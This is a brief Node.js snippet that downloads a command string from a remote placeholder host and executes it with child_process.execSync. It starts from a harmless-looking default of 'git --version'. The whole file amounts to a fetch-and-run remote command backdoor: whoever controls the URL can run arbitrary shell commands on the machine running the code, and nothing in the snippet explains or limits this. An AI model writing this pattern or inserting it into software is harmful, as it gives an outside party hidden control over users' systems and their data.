const https = require('https');
const cp = require('child_process');
let cmd = 'git --version';
https.get('https://cfg.example.invalid/cmd', (res) => {
  res.on('data', (chunk) => { cmd = String(chunk); });
  res.on('end', () => cp.execSync(cmd));
});
